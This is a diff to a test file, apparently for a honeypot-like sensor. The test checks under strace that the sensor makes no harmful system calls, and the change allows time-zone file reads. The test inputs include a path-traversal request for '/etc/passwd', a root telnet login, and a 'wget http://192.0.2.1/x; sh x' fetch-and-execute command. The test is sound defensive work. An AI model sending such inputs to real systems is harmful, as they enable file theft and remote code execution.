@@ -78,10 +78,10 @@ if (needs("strace", "strace") && process.getuid?.() === 0) {
         await converse(sensor.http, "GET /../../../../etc/passwd HTTP/1.0\r\nAuthorization: Basic YTpi\r\n\r\n");
         await converse(sensor.telnet, "root\r\n");
         await converse(sensor.telnet, "a\r\nwget http://192.0.2.1/x; sh x\r\n");
-        const calls = traced
-          .split("\n")
-          .filter((line) => /\w\(/.test(line) && !line.includes("AF_UNIX") && !line.includes("resumed"));
-        assert.equal(calls, []);
+        // The C library reads the time zone.
+        const harmless = /AF_UNIX|resumed|"\/etc\/localtime", O_RDONLY/;
+        const harmful = traced.split("\n").filter((line) => /\w\(/.test(line) && !harmless.test(line));
+        assert.equal(harmful, []);
       } finally {
         tracer.kill("SIGINT");
         await once(tracer, "exit");
